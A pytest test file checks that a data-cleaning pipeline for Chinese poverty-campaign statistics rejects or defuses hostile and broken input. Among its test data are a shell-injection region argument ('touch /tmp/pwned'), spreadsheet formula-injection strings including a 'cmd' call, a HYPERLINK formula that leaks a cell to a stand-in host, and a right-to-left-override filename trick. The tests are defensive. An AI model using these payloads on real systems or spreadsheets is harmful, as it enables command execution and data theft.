"""Hostile and broken raw input (issue 9): every case stops at the boundary with the file, line,
column and text, or is read right. All rows and files here are invented for the tests; the good
rows copy figures of the seed article so that they pass the registers."""

from __future__ import annotations

from pathlib import Path

import pandas as pd
import pytest
from conftest import RAW_HEADER, inconsistent_sales, write_raw

from campaign.cli import main as campaign_main
from campaign.core.quantities import QuantityColumnParseError, QuantityParseError, parse_quantity
from campaign.core.quantity_columns import parse_quantities
from campaign.dataset.clean import CleanError, clean

SEED = "seed-changzhi-2022-09-05"
GOOD_ROW = f"长治市,2022-06-30,projects_in_bank,3344个,{SEED},paragraph 4,"


def one_problem(data_dir: Path):
    with pytest.raises(CleanError) as caught:
        clean(data_dir)
    [problem] = caught.value.problems
    return problem, str(caught.value)


# Chinese numerals --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("printed", "value"),
    [
        ("一〇四七三一人", 104731),  # digit by digit, was read as 1
        ("一零四七三一人", 104731),
        ("三千三百四十四个", 3344),  # positional
        ("两万零五十人", 20050),
        ("一万二人", 12000),  # spoken short form
        ("一亿二千万元", 1.2e8),
        ("三億元", 3e8),  # traditional
        ("一萬人", 1e4),
        ("壹万贰仟元", 12000),  # financial forms
        ("零人", 0),
        ("〇人", 0),
        ("一点五万元", 15000),
    ],
)
def test_chinese_numerals_are_read_right(printed, value):
    assert parse_quantity(printed).value == value
    assert parse_quantities(pd.Series([printed]))["value"].tolist() == [value]


@pytest.mark.parametrize(
    ("printed", "quoted"),
    [
        ("十十人", "'十十'"),  # was 20
        ("万万人", "'万万'"),  # was 0 (and a ZeroDivisionError later)
        ("万元", "'万'"),  # no number at all: was 0
        ("三五人", "'三五'"),  # "three to five"
        ("三四十人", "'三四十'"),  # "thirty or forty"
        ("一二万人", "'一二万'"),
    ],
)
def test_ambiguous_or_malformed_chinese_numerals_are_errors_that_quote_them(printed, quoted):
    with pytest.raises(QuantityParseError) as caught:
        parse_quantity(printed)
    message = str(caught.value)
    assert repr(printed) in message and quoted in message


def test_ambiguous_numeral_in_a_raw_file_names_file_line_column_and_text(registers_dir):
    write_raw(registers_dir, "bad.csv", [GOOD_ROW, f"长治市,2022-06-30,employed_labourers,万万人,{SEED},paragraph 3,"])
    problem, message = one_problem(registers_dir)
    assert (str(problem.path), problem.line, problem.column, problem.text) == (
        "data/raw/bad.csv",
        3,
        "printed",
        "万万人",
    )
    assert "data/raw/bad.csv, line 3, column 'printed': '万万人'" in message
    assert "ZeroDivisionError" not in message


def test_a_zero_divisor_is_a_failed_check_not_a_crash(registers_dir):
    # 零人 is a real figure, but the share of out-of-province labourers cannot be derived from it
    write_raw(
        registers_dir,
        "zero.csv",
        [
            f"长治市,2022-06-30,employed_labourers,零人,{SEED},paragraph 3,",
            f"长治市,2022-06-30,employed_out_of_province,17599人,{SEED},paragraph 3,",
        ],
    )
    outputs = clean(registers_dir)
    assert outputs.observations.set_index("indicator").at["employed_labourers", "value"] == 0
    assert "employed_out_of_province_share" not in set(outputs.derived["metric"])
    failed = outputs.quality[outputs.quality["status"] == "fail"].set_index("subject")
    assert failed.at["employed_out_of_province_share", "rule"] == "derivable"
    assert "employed_labourers printed as '零人'" in failed.at["employed_out_of_province_share", "detail"]


# Impossible values -------------------------------------------------------------------------

HUGE = "1" + "0" * 400 + "人"  # 401 digits: was read as inf


@pytest.mark.parametrize("printed", [HUGE, "1234567890123456人", "一二三四五六七八九一二三四五六七人"])
def test_numbers_too_long_to_keep_exactly_are_errors(printed):
    with pytest.raises(QuantityParseError, match="more than 15 significant digits"):
        parse_quantity(printed)
    with pytest.raises(QuantityColumnParseError) as caught:  # the column-wise path too
        parse_quantities(pd.Series(["104731人", printed]), column="printed")
    assert [(label, text) for label, text, _ in caught.value.failures] == [(1, printed)]


def test_fifteen_digits_are_still_read():
    assert parse_quantities(pd.Series(["123456789012345人"]))["value"].tolist() == [123456789012345.0]


@pytest.mark.parametrize(
    ("indicator", "printed"),
    [
        ("employed_labourers", "-5万人"),  # a negative head count
        ("employed_labourers", "负五人"),
        ("linkage_funds", "-11.33亿元"),  # a negative amount
        ("cadre_training_coverage", "-3%"),  # a negative coverage
        ("employed_labourers", "-0人"),
    ],
)
def test_negative_figure_of_a_nonnegative_indicator_names_file_line_column_text(registers_dir, indicator, printed):
    write_raw(registers_dir, "neg.csv", [GOOD_ROW, f"长治市,2022-06-30,{indicator},{printed},{SEED},p,"])
    problem, message = one_problem(registers_dir)
    assert (str(problem.path), problem.line, problem.column, problem.text) == (
        "data/raw/neg.csv",
        3,
        "printed",
        printed,
    )
    assert f"{indicator} cannot be negative" in message


def test_indicators_that_may_be_negative_still_accept_negatives(registers_dir):
    write_raw(
        registers_dir,
        "ok.csv",
        [
            "中国,2022-12-31,employed_labourers,3277.9万人,nrra-2023-02-14,p,",
            "中国,2022-12-31,employed_labourers_increase,-12.5万人,nrra-2023-02-14,p,",  # fewer than last year
            "中国,2022-12-31,microcredit_amount_growth,-3%,nrra-2023-02-14,p,",
        ],
    )
    values = clean(registers_dir).observations.set_index("indicator")["value"]
    assert values["employed_labourers_increase"] == -125000 and values["microcredit_amount_growth"] == -0.03


def test_every_nonnegative_flag_in_the_register_is_on_a_counted_indicator():
    from campaign.core.registers import Registers

    registers = Registers.load(Path(__file__).resolve().parents[2] / "data")
    flagged = {i.id for i in registers.indicators.values() if i.nonnegative}
    assert {"employed_labourers", "microcredit_amount", "training_sessions", "cadre_training_coverage"} <= flagged
    assert not flagged & {"employed_labourers_increase", "microcredit_amount_growth", "employed_labourers_above_target"}


# Control characters ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("note", "described"),
    [
        ("bad\x00note", "U+0000 (NUL)"),
        ("a\x1b[31mred", "U+001B (ESC)"),
        ("tab\there", "U+0009 (TAB)"),
        ("evil\u202etxt.exe", "U+202E"),  # right-to-left override
        ("zero\u200bwidth", "U+200B"),
        ("filler\u3164", "U+3164 (HANGUL FILLER)"),  # a letter by category, drawn as nothing
        ("\u2800", "U+2800 (BRAILLE PATTERN BLANK)"),
        ("长治\ufe0f", "U+FE0F (VARIATION SELECTOR-16)"),
    ],
)
def test_control_characters_are_rejected_with_file_line_column_text(registers_dir, note, described):
    path = registers_dir / "raw" / "ctl.csv"
    path.write_text(RAW_HEADER + GOOD_ROW + "\n" + f"长治市,2022-06-30,cadres_sent,2850名,{SEED},p6,{note}\n")
    problem, message = one_problem(registers_dir)
    assert (str(problem.path), problem.line, problem.column, problem.text) == ("data/raw/ctl.csv", 3, "note", note)
    assert described in message


def test_a_line_break_inside_a_quoted_field_is_rejected_at_the_line_the_row_starts(registers_dir):
    path = registers_dir / "raw" / "multiline.csv"
    path.write_text(RAW_HEADER + GOOD_ROW + "\n" + f'长治市,2022-06-30,cadres_sent,2850名,{SEED},p6,"two\nlines"\n')
    problem, message = one_problem(registers_dir)
    assert (problem.line, problem.column, problem.text) == (3, "note", "two\nlines")
    assert "line break" in message


# Encodings ---------------------------------------------------------------------------------


def _encoded(registers_dir: Path, data: bytes) -> Path:
    path = registers_dir / "raw" / "enc.csv"
    path.write_bytes(data)
    return path


ROWS = RAW_HEADER + GOOD_ROW + "\n" + f"长治市,2022-06-30,employed_labourers,104731人,{SEED},paragraph 3,长治\n"


@pytest.mark.parametrize(
    "data",
    [
        ROWS.encode("utf-8"),
        ROWS.encode("utf-8-sig"),  # with a BOM, as Excel saves "CSV UTF-8"
        ROWS.encode("gb18030"),  # as Chinese office software saves CSV by default
        "\ufeff".encode("gb18030") + ROWS.encode("gb18030"),  # GB18030 with its BOM
        ROWS.replace("\n", "\r\n").encode("gb18030"),
    ],
    ids=["utf-8", "utf-8-bom", "gb18030", "gb18030-bom", "gb18030-crlf"],
)
def test_utf8_with_or_without_bom_and_gb18030_read_the_same(registers_dir, data):
    _encoded(registers_dir, data)
    observations = clean(registers_dir).observations
    assert observations.set_index("indicator").at["employed_labourers", "value"] == 104731
    assert observations.set_index("indicator").at["employed_labourers", "note"] == "长治"
    assert observations["region"].eq("changzhi").all()


@pytest.mark.parametrize(
    ("data", "line", "expected"),
    [
        (ROWS.encode("utf-16"), 1, "UTF-16 is not accepted"),
        ((RAW_HEADER + GOOD_ROW + "\n").encode() + b"changzhi,2022-06-30,cadres_sent,2850,x,p,caf\xe9\n", 3, "0xe9"),
    ],
    ids=["utf-16", "latin-1"],
)
def test_other_encodings_are_errors_naming_file_line_and_encodings_tried(registers_dir, data, line, expected):
    _encoded(registers_dir, data)
    problem, message = one_problem(registers_dir)
    assert (str(problem.path), problem.line) == ("data/raw/enc.csv", line)
    assert expected in message
    assert "UTF-8 (with or without BOM), GB18030" in message


# Broken files ------------------------------------------------------------------------------


def test_header_only_file_names_the_file_and_line(registers_dir):
    write_raw(registers_dir, "a-good.csv", [GOOD_ROW])
    write_raw(registers_dir, "empty.csv", [])
    problem, message = one_problem(registers_dir)
    assert (str(problem.path), problem.line, problem.column) == ("data/raw/empty.csv", 1, "(header)")
    assert "header but no rows" in message
    assert "dtype" not in message  # not pandera's internal error


def test_empty_file_names_the_file(registers_dir):
    (registers_dir / "raw" / "nothing.csv").write_bytes(b"")
    problem, message = one_problem(registers_dir)
    assert (str(problem.path), problem.line) == ("data/raw/nothing.csv", 1)
    assert "empty file" in message


def test_unterminated_quote_is_reported_on_the_line_it_opens(registers_dir):
    rows = [
        GOOD_ROW,
        f'长治市,2022-06-30,cadres_sent,2850名,{SEED},paragraph 6,"sent by province',  # line 3: never closed
        f"长治市,2022-06-30,training_sessions,279期,{SEED},paragraph 6,",
        f"长治市,2022-06-30,publicity_events,3393次,{SEED},paragraph 6,",
    ]
    write_raw(registers_dir, "quote.csv", rows)
    problem, message = one_problem(registers_dir)
    assert (str(problem.path), problem.line, problem.column) == ("data/raw/quote.csv", 3, "(row)")
    assert problem.text == rows[1]
    assert "never closed" in message


def test_text_after_a_closing_quote_is_reported_with_its_line(registers_dir):
    write_raw(registers_dir, "quote.csv", [GOOD_ROW, f'长治市,2022-06-30,cadres_sent,2850名,{SEED},"p6"x,'])
    problem, message = one_problem(registers_dir)
    assert (problem.line, problem.column) == (3, "(row)")
    assert "malformed CSV" in message


def test_problems_in_several_files_are_reported_together(registers_dir):
    write_raw(registers_dir, "a.csv", [])
    write_raw(registers_dir, "b.csv", [GOOD_ROW, f"长治市,2022-06-30,cadres_sent,2850名,{SEED},p6,x\x00"])
    with pytest.raises(CleanError) as caught:
        clean(registers_dir)
    assert [(str(p.path), p.line) for p in caught.value.problems] == [("data/raw/a.csv", 1), ("data/raw/b.csv", 3)]


# The command line that names runs (make reports, make reports-all) ----------------------------


def run_cli(data_dir: Path, *args: str, capsys) -> tuple[int, str, str]:
    code = campaign_main(["--data-dir", str(data_dir), *args])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


@pytest.mark.parametrize("encoding", ["utf-8-sig", "gb18030"])
def test_runs_reads_a_bom_or_gb18030_file_like_the_clean_step(registers_dir, capsys, encoding):
    (registers_dir / "raw" / "x.csv").write_bytes(
        (RAW_HEADER + f"长治市,2022-06-30,employed_labourers,104731人,{SEED},p3,\n").encode(encoding)
    )
    code, out, err = run_cli(registers_dir, "runs", capsys=capsys)
    assert (code, out, err) == (0, "changzhi-2022-06-30-en\nchangzhi-2022-06-30-zh\n", "")


@pytest.mark.parametrize(
    ("row", "expected"),
    [
        (
            f"长治市,2022-06-30,no_such_indicator,1人,{SEED},p,",
            "campaign: data/raw/x.csv, line 3, column 'indicator': 'no_such_indicator': unknown indicator",
        ),
        (f"长治县,2022-06-30,employed_labourers,1人,{SEED},p,", "line 3, column 'region': '长治县': unknown region"),
        (
            f"长治市,2022-06-30 x,employed_labourers,1人,{SEED},p,",
            "line 3, column 'period_end': '2022-06-30 x': not a date",
        ),
        (f'长治市,2022-06-30,employed_labourers,"1人,{SEED},p,', "line 3, column '(row)'"),
    ],
)
def test_runs_on_bad_raw_data_is_one_clear_line_and_fails(registers_dir, capsys, row, expected):
    write_raw(registers_dir, "x.csv", [GOOD_ROW, row])
    for command in (["runs", "--make-vars"], ["run-id", "--make-vars"]):
        code, out, err = run_cli(registers_dir, *command, capsys=capsys)
        assert code == 2 and out == ""
        assert len(err.splitlines()) == 1 and expected in err, err


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        (["--lang", "fr"], "campaign: unknown language 'fr'; valid languages: en, zh"),
        (["--region", "x'; touch /tmp/pwned; '"], "campaign: unknown region \"x'; touch /tmp/pwned; '\""),
        (["--period", "2022-13-01"], "campaign: malformed period end '2022-13-01'"),
        (["--period", "2021-06-30"], "campaign: no data for 长治市 (changzhi) at period end 2021-06-30"),
    ],
)
def test_bad_run_parameters_are_one_clear_line(args, expected, capsys):
    data = Path(__file__).resolve().parents[2] / "data"
    assert campaign_main(["--data-dir", str(data), "run-id", "--make-vars", *args]) == 2
    out, err = capsys.readouterr()
    assert out == "" and len(err.splitlines()) == 1 and err.startswith(expected), err


# Spreadsheet-safe processed CSVs -----------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+cmd", "'+cmd"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),  # already quoted: one more quote, so that reading back is exact
        ("'plain", "'plain"),
        ("plain = text", "plain = text"),
        ("", ""),
    ],
)
def test_text_cells_that_a_spreadsheet_would_run_are_defused_and_restored(text, written):
    from campaign.core.files import defuse_text, restore_text

    assert defuse_text(text) == written
    assert restore_text(written) == text


def test_processed_csvs_are_spreadsheet_safe_and_read_back_exactly(registers_dir):
    from campaign.dataset.clean import write_outputs
    from campaign.dataset.processed import read_observations

    note = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
    quoted = '"' + note.replace('"', '""') + '"'  # as CSV writes it
    write_raw(
        registers_dir,
        "formula.csv",
        [
            f"中国,2022-12-31,microcredit_amount,933.5亿元,nrra-2023-02-14,@locator,{quoted}",
            "中国,2022-12-31,microcredit_amount_growth,-3%,nrra-2023-02-14,+p,-note",
        ],
    )
    outputs = clean(registers_dir)
    write_outputs(outputs, registers_dir / "processed")
    written = (registers_dir / "processed" / "observations.csv").read_text(encoding="utf-8")
    assert '"\'=HYPERLINK(""http://example.invalid' in written
    assert ",'-3%," in written and ",'+p,'-note" in written and ",'@locator," in written
    assert ",-0.03," in written  # a number stays a number
    back = read_observations(registers_dir / "processed" / "observations.csv")
    pd.testing.assert_frame_equal(back, outputs.observations, check_dtype=False)
    rows = back.set_index("indicator")
    assert rows.at["microcredit_amount", "note"] == note and rows.at["microcredit_amount_growth", "printed"] == "-3%"


# Failed consistency rules show; they do not stop the build --------------------------------


def test_channels_that_do_not_add_up_are_a_fail_row_not_an_error(data_dir):
    inconsistent_sales(data_dir)
    quality = clean(data_dir).quality
    failed = quality[quality["status"] == "fail"]
    assert list(failed["rule"]) == ["parts_add_up"]
    assert "sales_exhibitions" in failed["subject"].iloc[0] and failed["value"].iloc[0] > failed["limit"].iloc[0]


def test_a_file_with_a_utf8_bom_and_a_bad_byte_is_not_read_as_gb18030(registers_dir):
    _encoded(registers_dir, ROWS.encode("utf-8-sig") + b"\xff\n")
    problem, message = one_problem(registers_dir)
    assert (str(problem.path), problem.line) == ("data/raw/enc.csv", 4)
    assert "0xff" in message


def test_the_clean_step_removes_what_a_killed_run_left_in_processed(data_dir):
    from campaign.dataset.clean import write_outputs

    left = data_dir / "processed" / ".observations.csv.k1ll3d.tmp"
    left.write_text("half a file")
    write_outputs(clean(data_dir), data_dir / "processed")
    assert sorted(p.name for p in (data_dir / "processed").iterdir()) == [
        "derived.csv",
        "index.sqlite",
        "observations.csv",
        "quality.csv",
    ]
